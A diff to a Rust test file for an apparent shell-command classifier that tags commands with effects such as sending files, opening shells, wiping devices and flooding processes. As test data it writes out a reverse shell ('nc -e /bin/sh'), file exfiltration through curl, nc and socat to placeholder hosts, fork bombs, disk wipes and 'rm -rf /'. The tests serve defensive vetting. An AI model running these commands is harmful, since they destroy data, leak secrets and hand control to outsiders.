@@ -48,7 +48,7 @@ fn files_are_read_written_and_deleted() {
     check("perl -pi -e 's/a/b/' f", &["reads-file f", "writes-file f"]);
     check("tee a b", &["writes-file a", "writes-file b"]);
     check("tar xzf a.tgz -C d", &["reads-file a.tgz", "writes-file d"]);
-    check("find . -name '*.pyc' -delete", &["deletes-file ./*.pyc~"]);
+    check("find . -name '*.pyc' -delete", &["deletes-file ./*.pyc~", "deletes-below ."]);
     check("find . -delete", &["deletes-tree ."]);
     check("dd if=a of=/dev/sda", &["reads-file a", "wipes-device /dev/sda"]);
     check("mkfs.ext4 /dev/sdb1", &["wipes-device /dev/sdb1"]);
@@ -78,14 +78,21 @@ fn git_deeds_are_known() {
     check("git clean -fd", &["discards-work"]);
     check("git clean -fdn", &[]);
     check("git checkout .", &["discards-work"]);
-    check("git checkout -- f", &["discards-work", "writes-file f"]);
+    check("git checkout -- f", &["discards-named-work", "writes-file f"]);
     check("git checkout main", &[]);
     check("git checkout -b x origin/y", &[]);
-    check("git restore f", &["discards-work", "writes-file f"]);
+    check("git restore f", &["discards-named-work", "writes-file f"]);
+    check("git restore .", &["discards-work", "writes-file ."]);
     check("git restore --staged f", &[]);
     check("git stash", &[]);
-    check("git stash drop", &["discards-work"]);
-    check("git branch -D x", &["discards-work"]);
+    check("git stash drop", &["discards-named-work"]);
+    check("git stash clear", &["discards-work"]);
+    check("git branch -D x", &["discards-named-work"]);
+    check("git -c clean.requireForce=no clean", &["discards-work"]);
+    check("git -c gc.pruneExpire=now gc", &["discards-work"]);
+    check("git push --force-with-lease", &["reaches-host", "rewrites-own-remote"]);
+    check("git show HEAD:.env", &["reads-file .env"]);
+    check("git config alias.c 'commit -n'", &["skips-commit-hooks"]);
     check("git branch -d x", &[]);
     check("git filter-branch HEAD", &["rewrites-history"]);
     check("git update-ref -d refs/heads/x", &["rewrites-history"]);
@@ -97,10 +104,31 @@ fn git_deeds_are_known() {
 fn the_network_is_known() {
     check("curl https://x", &["reaches-host https://x"]);
     check("curl -o f https://x", &["reaches-host https://x", "writes-file f"]);
-    check("curl -d @f https://x", &["reaches-host https://x", "sends-data https://x", "reads-file f"]);
-    check("curl -F a=@f https://x", &["reaches-host https://x", "sends-data https://x", "reads-file f"]);
-    check("cat f | nc h 1", &["reads-file f", "reaches-host h", "sends-data h"]);
-    check("scp f h:g", &["reads-file f", "reaches-host h", "sends-data h"]);
+    check(
+        "curl -d @f https://x",
+        &["reaches-host https://x", "sends-data https://x", "reads-file f", "sends-file f"],
+    );
+    check(
+        "curl -F a=@f https://x",
+        &["reaches-host https://x", "sends-data https://x", "reads-file f", "sends-file f"],
+    );
+    check(
+        "curl -d @f http://localhost:3000",
+        &["reaches-host http://localhost:3000", "sends-data http://localhost:3000", "reads-file f"],
+    );
+    check(
+        "cat f | gzip | curl -T - https://x",
+        &["reads-file f", "reaches-host https://x", "sends-data https://x", "sends-file f"],
+    );
+    check("curl https://x/$(cat f)", &["reaches-host https://x/$(cat f)~", "quotes-file f", "reads-file f"]);
+    check(
+        "tar c d | socat - TCP:h:1",
+        &["reads-file d", "reaches-host h:1", "sends-data h:1", "sends-file d"],
+    );
+    check("socat OPEN:f TCP:h:1", &["reads-file f", "reaches-host h:1", "sends-data h:1", "sends-file f"]);
+    check("nc -e /bin/sh h 1", &["gives-shell h", "reaches-host h"]);
+    check("cat f | nc h 1", &["reads-file f", "reaches-host h", "sends-data h", "sends-file f"]);
+    check("scp f h:g", &["reads-file f", "reaches-host h", "sends-data h", "sends-file f"]);
     check("rsync -a --delete a/ b/", &["reads-file a/", "writes-file b/", "deletes-tree b/"]);
     check("ssh h ls", &["reaches-host h"]);
     check("echo x > /dev/tcp/h/80", &["reaches-host h:80", "sends-data h:80"]);
@@ -186,4 +214,46 @@ fn every_deed_has_its_name() {
     for deed in Deed::ALL {
         assert_eq!(Deed::from_name(deed.name()), Some(*deed));
     }
+}
+
+#[test]
+fn what_never_ends_is_known() {
+    for source in [
+        ":(){ :|:& };:",
+        "b(){ b & }; b",
+        "a(){ b & }; b(){ a; }; a",
+        "while true; do x & done",
+        "until false; do x & done",
+        "for ((;;)); do x & done",
+        "while true; do x & wait; y & done",
+        "bash -c ':(){ :|:& };:'",
+    ] {
+        assert!(effects(&read(source, &setting())).iter().any(|line| line == "floods-processes"), "{source}");
+    }
+    for source in [
+        "while true; do x & wait; done",
+        "while true; do x & sleep 1; done",
+        "while true; do (x); done",
+        "for f in *; do x & done; wait",
+        "f(){ [ -n \"$1\" ] && f | sort; }; f a",
+        "while read l; do x & done",
+    ] {
+        assert!(
+            !effects(&read(source, &setting())).iter().any(|line| line == "floods-processes"),
+            "{source}"
+        );
+    }
+}
+
+#[test]
+fn programs_of_other_languages_touch_files() {
+    check("python3 -c \"print(open('.env').read())\"", &["reads-file .env"]);
+    check("python3 -c \"open('a','w').write('x')\"", &["writes-file a"]);
+    check("python3 -c \"open(f'{x}/a','w')\"", &[]);
+    check("ruby -e \"File.read('a')\"", &["reads-file a"]);
+    check("node -e \"fs.writeFileSync('a', 'x')\"", &["writes-file a"]);
+    check("awk '{print > \"/etc/motd\"}' x", &["reads-file x", "writes-file /etc/motd"]);
+    check("perl -e 'unlink glob(\"~/*\")'", &["deletes-file /home/u/*"]);
+    check("docker run --rm alpine rm -rf /", &[]);
+    check("docker run -v /:/h alpine rm -rf /h", &["deletes-tree /h"]);
 }
